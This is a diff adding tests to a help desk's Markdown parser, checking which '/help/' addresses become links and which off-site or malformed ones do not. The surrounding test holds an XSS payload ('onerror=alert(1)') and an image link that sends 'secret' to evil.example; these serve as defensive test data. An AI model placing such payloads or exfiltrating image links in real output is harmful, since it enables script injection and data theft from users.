@@ -80,6 +80,36 @@ describe('the Markdown of answers', () => {
     expect(links).toBe(false);
   });
 
+  test('makes links of help articles of this desk, also of their bare address', () => {
+    const link = (href: string, words: string): Inline => ({ kind: 'link', href, children: [text(words)] });
+    expect(parseMarkdown('See [Refunds](/help/ask-for-a-refund) or /help/use-the-api.')).toEqual([
+      paragraph(
+        text('See '),
+        link('/help/ask-for-a-refund', 'Refunds'),
+        text(' or '),
+        link('/help/use-the-api', '/help/use-the-api'),
+        text('.'),
+      ),
+    ]);
+  });
+
+  test.each([
+    '[a](/help/)',
+    '[a](/help/a/b)',
+    '[a](/help/a?b=c)',
+    '[a](/help/A)',
+    '[a](/help/-a)',
+    '[a](/helpers/a)',
+    'https://evil.example/help/a',
+    'evil.example/help/a',
+    'self/help/a',
+    '//help/a',
+    '/help/a/b',
+    '/help/a_b',
+  ])('makes no link of %j', (source) => {
+    expect(JSON.stringify(parseMarkdown(source))).not.toContain('"link"');
+  });
+
   test('has no form for HTML and images: they stay text', () => {
     const source = '<img src=x onerror=alert(1)> <script>x</script> ![pixel](https://evil.example/?q=secret)';
     expect(parseMarkdown(source)).toEqual([paragraph(text(source))]);
